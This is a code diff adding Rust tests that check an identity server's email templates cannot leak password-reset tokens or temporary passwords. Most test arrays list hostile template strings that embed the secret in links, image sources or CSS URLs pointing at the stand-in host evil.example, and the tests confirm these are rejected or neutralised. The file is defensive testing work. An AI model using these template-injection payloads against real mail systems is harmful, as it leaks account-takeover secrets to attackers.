+        html: "<p><a href=\"https://evil.example/{{ temporary_password }}\">x</a></p>".into(),
+        ..temp_ok
+    };
+    assert!(validate(MailKind::TemporaryPassword, &temp_bad).is_err());
+}
+
+/// The token of the sample reset link, and the only form a URL carrying it may have.
+const TOKEN: &str = "TOKEN0123456789";
+const OUR_URL: &str = "https://id.example.org/t/example/reset?token=TOKEN0123456789";
+
+/// Checks that every copy of the token in a sent mail is in the server's own URL, with nothing
+/// before it (text: a whitespace-separated word; HTML: a whole href or the text of an element).
+fn assert_only_our_url(r: &Rendered, what: &str) {
+    assert!(!r.subject.contains(TOKEN), "{what}: token in subject");
+    for word in r.text.split_whitespace().filter(|w| w.contains(TOKEN)) {
+        // Text after our URL can only change our own URL (its host comes first).
+        assert!(
+            word.starts_with(OUR_URL),
+            "{what}: text carries the token in {word:?}"
+        );
+    }
+    let escaped = OUR_URL;
+    for (at, _) in r.html.match_indices(TOKEN) {
+        let start = r.html[..at]
+            .rfind("https://")
+            .unwrap_or_else(|| panic!("{what}: token outside a URL in {}", r.html));
+        let url_end = r.html[start..]
+            .find(['"', '<', ' ', '\n'])
+            .map_or(r.html.len(), |e| start + e);
+        assert_eq!(&r.html[start..url_end], escaped, "{what}: html {}", r.html);
+        let before = r.html[..start].chars().last();
+        assert!(
+            matches!(before, Some('"' | '>')),
+            "{what}: our URL is part of something longer in {}",
+            r.html
+        );
+        if before == Some('"') {
+            assert!(
+                r.html[..start].ends_with("<a href=\""),
+                "{what}: the token is in an attribute other than a link's href: {}",
+                r.html
+            );
+        }
+    }
+}
+
+fn send(kind: MailKind, t: &TemplateSource) -> Rendered {
+    render_mail(kind, t, &sample_data(kind), Fill::Secret(OUR_URL)).expect("renders")
+}
+
+/// The bypasses a security review found in the old save-time check, each in the text and the
+/// HTML part: refused when saved, and harmless when such a template reaches sending anyway
+/// (stored before this rule, or a branch the check didn't take).
+#[test]
+fn templates_cannot_place_secrets() {
+    let good_text = "Open {{ reset_link }}";
+    let good_html = "<p><a href=\"{{ reset_link }}\">Reset</a></p>";
+    let texts = [
+        "https://evil.example/?r={{ reset_link }}",
+        "<https://evil.example/?{{ reset_link }}>",
+        "{% if reset_link == \"https://id.example.org/t/example/reset?token=EXAMPLE\" %}https://evil.example/?{{ reset_link }}{% else %}{{ reset_link }}{% endif %}",
+        "{% if reset_link %}{{ reset_link }}{% endif %}",
+        "{{ reset_link|upper }}",
+        "{{ name|default(reset_link) }} {{ reset_link }}",
+    ];
+    let htmls = [
+        "<p><a href=\"https://evil.example/?r={{ reset_link }}\">x</a></p>",
+        "<p><a title=\"x>\" href=\"https://evil.example/?{{ reset_link }}\">x</a>{{ reset_link }}</p>",
+        "<p title=\"a>b\"><img src=\"https://evil.example/{{ reset_link }}\">{{ reset_link }}</p>",
+        "<image src=\"https://evil.example/{{ reset_link }}\">{{ reset_link }}",
+        "{% if reset_link == \"https://id.example.org/t/example/reset?token=EXAMPLE\" %}<a href=\"{{ reset_link }}\">x</a>{% else %}<a href=\"https://evil.example/{{ reset_link }}\">x</a>{% endif %}",
+        "<p>https://evil.example/?{{ reset_link }}</p>",
+        "<a href=\"https://evil.example/\">{{ reset_link }}</a>",
+        "<div style=\"background:url(https://evil.example/{{ reset_link }})\">{{ reset_link }}</div>",
+    ];
+    for text in texts {
+        let t = src("Reset", text, good_html);
+        assert!(
+            validate(MailKind::ResetLink, &t).is_err() || !text.contains("evil"),
+            "saved: {text}"
+        );
+        assert_only_our_url(&send(MailKind::ResetLink, &t), text);
+    }
+    for html in htmls {
+        let t = src("Reset", good_text, html);
+        assert!(validate(MailKind::ResetLink, &t).is_err(), "saved: {html}");
+        assert_only_our_url(&send(MailKind::ResetLink, &t), html);
+    }
+    // Comparisons can't see the secret even at sending: the template gets a marker.
+    let t = src(
+        "x",
+        "{% if reset_link == \"https://id.example.org/t/example/reset?token=TOKEN0123456789\" %}MATCH{% endif %}{{ reset_link }}",
+        good_html,
+    );
+    assert!(!send(MailKind::ResetLink, &t).text.contains("MATCH"));
+    // The built-in templates pass the same check.
+    for kind in [MailKind::ResetLink, MailKind::AdminResetLink] {
+        for lang in LANGS {
+            assert_only_our_url(&send(kind, builtin(kind, lang)), kind.as_str());
+        }
+    }
+}
+
+#[test]
+fn temporary_passwords_stand_alone() {
+    let pw = "Kx7mQ2pR9vT4wZ8nB3cD";
+    for (text, html) in [
+        ("https://evil.example/?p={{ temporary_password }}", "<p>{{ temporary_password }}</p>"),
+        ("{{ temporary_password }}", "<a href=\"https://evil.example/?p={{ temporary_password }}\">x</a>{{ temporary_password }}"),
+        ("{{ temporary_password }}", "<a href=\"{{ temporary_password }}\">x</a>{{ temporary_password }}"),
+    ] {
+        let t = src("x", text, html);
+        let r = render_mail(
+            MailKind::TemporaryPassword,
+            &t,
+            &sample_data(MailKind::TemporaryPassword),
+            Fill::Secret(pw),
+        )
+        .unwrap();
+        for word in r.text.split_whitespace().filter(|w| w.contains(pw)) {
+            assert_eq!(word, pw, "{text}");
+        }
+        assert!(!r.html.contains(&format!("={pw}")), "{}", r.html);
+        assert!(!r.html.contains(&format!("\"{pw}")), "{}", r.html);
+        assert!(r.html.contains(pw));
+    }
+}
+
+#[test]
+fn previews_never_carry_a_working_link() {
+    for kind in [MailKind::ResetLink, MailKind::TemporaryPassword] {
+        let r = render_mail(
+            kind,
+            builtin(kind, Language::En),
+            &sample_data(kind),
+            Fill::Masked,
+        )
+        .unwrap();
+        assert!(r.text.contains(MASK) && r.html.contains(MASK));
+        assert!(!r.text.contains("EXAMPLE") && !r.html.contains("EXAMPLE"));
+    }
+}
